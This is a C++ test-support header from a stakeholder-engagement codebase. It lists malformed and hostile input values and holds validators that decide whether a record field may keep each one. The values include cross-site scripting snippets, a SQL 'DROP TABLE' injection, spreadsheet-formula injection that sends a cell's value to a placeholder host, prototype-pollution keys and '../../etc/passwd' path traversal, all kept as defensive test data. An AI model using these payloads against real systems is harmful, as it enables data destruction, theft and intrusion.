// Bad values of RELIABILITY.md section 4 (items 1, 3 to 7, 9, 10, 27 and 29) as JSON, and what a
// field may keep of them: written down apart from core/model/value_rules.cc, so that a rule that
// goes missing there is seen.
#pragma once

#include <cmath>
#include <cstdint>
#include <limits>
#include <string>
#include <string_view>
#include <vector>

#include "core/base/calendar.h"
#include "core/base/fold.h"
#include "core/base/json.h"
#include "core/model/schema.h"

namespace earshot::model {

inline std::string Times(std::string_view text, int times) {
  std::string all;
  for (int i = 0; i < times; ++i) all += text;
  return all;
}

// What somebody may type or paste where a text is expected.
inline std::vector<std::string> BadTexts() {
  using namespace std::string_literals;
  return {
      "\xED\xA0\x80 half a surrogate"s,
      "overlong \xC0\xAF slash"s,
      "cut off \xF0\x9F\x98"s,
      "\xEF\xBB\xBF after a byte order mark"s,
      "nothing\0in the middle"s,
      "\0"s,
      "\xEF\xBF\xBE no character"s,
      "\x01\x02\x07\x1B[31m bell and escape\x7F"s,
      "two\nlines\r\nand a third"s,
      "   "s,
      ""s,
      "a"s,
      "Zalgo a" + Times("\xCC\x81", 300),
      "\xE2\x80\xAEgnp.exe overridden"s,
      "Asha \xE2\x80\xADoverridden"s,
      "\xE2\x81\xA6isolated\xE2\x81\xA9"s,
      "family \xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA7"s,
      "\xE2\x80\x8B\xE2\x80\x8B\xE2\x80\x8B"s,
      "Ŵyl y ŷd, Zażółć, ਕਈ ਲੋਕਾਂ, بس شام چھ بجے بند"s,
      "=HYPERLINK(\"http://x/?\"&A1)"s,
      "+1"s,
      "-1"s,
      "@SUM(A1)"s,
      "\t=1+1"s,
      "＝1+1"s,
      "\"=1"s,
      "<script>alert(1)</script><img src=x onerror=alert(2)>"s,
      "javascript:alert(1)"s,
      "'; DROP TABLE documents; --"s,
      "{{7*7}} ${7*7} %n%s%x"s,
      "__proto__"s,
      "{\"roles\":[\"_admin\"],\"roles\":[]}"s,
      Times("[", 5000),
      Times("w", 5000),
      std::string(1 << 20, 'x'),
  };
}

// Dates, times and numbers that are none; terms of no list; ids that are none or of another type.
inline std::vector<std::string> BadCodes() {
  using namespace std::string_literals;
  return {
      "2026-02-30"s,
      "31/12/2026"s,
      "0000-00-00"s,
      "1899-12-31"s,
      "2200-01-01"s,
      "99999-01-01"s,
      "2026-13-01"s,
      "2026-1-1"s,
      "2026-11-25T25:00:00.000+00:00"s,
      "2026-11-25T09:12:00.000+99:00"s,
      "2026-11-25 09:12"s,
      "tomorrow"s,
      "12"s,
      "NaN"s,
      "1e999"s,
      "9223372036854775808"s,
      "no such term"s,
      "-x"s,
      "UPPER-CASE"s,
      Times("long-", 40),
      "member"s,
      "member:"s,
      "member:../../etc/passwd"s,
      "../../etc/passwd"s,
      "_design/x"s,
      "member:%00"s,
      "member:" + Times("x", 8192),
      "hovercraft:01J00000000000000000000001"s,
      "activity:01J00000000000000000000001"s,
  };
}

inline std::vector<base::Json> BadValues() {
  std::vector<base::Json> values;
  for (const std::string& text : BadTexts()) values.emplace_back(text);
  for (const std::string& code : BadCodes()) values.emplace_back(code);
  for (const double number : {2.5, 1e300, std::nan(""), std::numeric_limits<double>::infinity()}) {
    values.emplace_back(number);
  }
  for (const int64_t number :
       {int64_t{-1}, int64_t{1899}, int64_t{1'000'000'001}, std::numeric_limits<int64_t>::min(),
        std::numeric_limits<int64_t>::max()}) {
    values.emplace_back(number);
  }
  values.emplace_back(std::numeric_limits<uint64_t>::max());
  values.emplace_back(true);
  values.push_back(base::Json::array({"a", "b"}));
  values.push_back({{"__proto__", {{"isAdmin", true}}}});
  return values;
}

// The beginning, for the trace of a failure.
inline std::string Beginning(const base::Json& value) {
  return value.is_string() ? base::AsString(value).substr(0, 40) : base::DumpJson(value);
}

inline bool IsPlainText(const Field& field, const std::string& text) {
  if (!base::IsValidUtf8(text)) return false;
  const bool line = field.type == ValueType::kLine;
  for (const char c : text) {
    const auto byte = static_cast<unsigned char>(c);
    const bool breaks = c == '\n' || c == '\r';
    if ((byte < 0x20 && c != '\t' && !(breaks && !line)) || byte == 0x7F) return false;
  }
  if (line && (text.find("\xE2\x80\xAD") != std::string::npos ||
               text.find("\xE2\x80\xAE") != std::string::npos)) {
    return false;
  }
  const auto kept = static_cast<int64_t>(base::CharacterCount(base::TrimSpaces(text)));
  if (kept == 0) return !field.required && field.kind != FieldKind::kSet;
  return kept >= field.min &&
         static_cast<int64_t>(base::CharacterCount(text)) <= MaxCharacters(field);
}

// Letters, digits, '-' and '_' in parts between colons, of the type that the field names.
inline bool NamesARecord(const Field& field, const std::string& id) {
  const std::string start = std::string(field.vocabulary) + ":";
  if (!id.starts_with(start) || id.size() == start.size() || id.size() > 200) return false;
  return id.find_first_not_of(
             "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_:") ==
         std::string::npos;
}

// Whether the field, or an element of the set that it is, may hold that value exactly as it is.
inline bool MayBeKept(const Field& field, const base::Json& value) {
  const std::string text = base::AsString(value);
  switch (field.type) {
    case ValueType::kLine:
    case ValueType::kProse:
      return value.is_string() && IsPlainText(field, text);
    case ValueType::kInteger: {
      if (!value.is_number_integer()) return false;
      const int64_t number = base::AsInteger(value, std::numeric_limits<int64_t>::max());
      return number >= field.min && number <= (field.max > 0 ? field.max : 1'000'000'000);
    }
    case ValueType::kBoolean:
      return value.is_boolean();
    case ValueType::kDate:
      return base::ParseDate(text).has_value();
    case ValueType::kInstant:
      return base::ParseInstant(text).has_value();
    case ValueType::kChoice:  // a term of this workspace may have any code
      return !text.empty() && text.size() <= 60 && text.front() != '-' && text.back() != '-' &&
             text.find("--") == std::string::npos &&
             text.find_first_not_of("abcdefghijklmnopqrstuvwxyz0123456789-") == std::string::npos;
    case ValueType::kReference:
      return NamesARecord(field, text);
  }
  return false;
}

// Record types of stakeholders, their maps, the matrix of channels and the Citizens' Panel.
inline std::vector<const RecordType*> StakeholderAndPanelTypes() {
  std::vector<const RecordType*> types;
  for (const char* name : {"stakeholder", "membership", "contact", "identification", "map",
                           "position", "channel_plan"}) {
    types.push_back(FindType(name));
  }
  for (const RecordType& type : AllTypes()) {
    if (type.panel) types.push_back(&type);
  }
  return types;
}

}  // namespace earshot::model
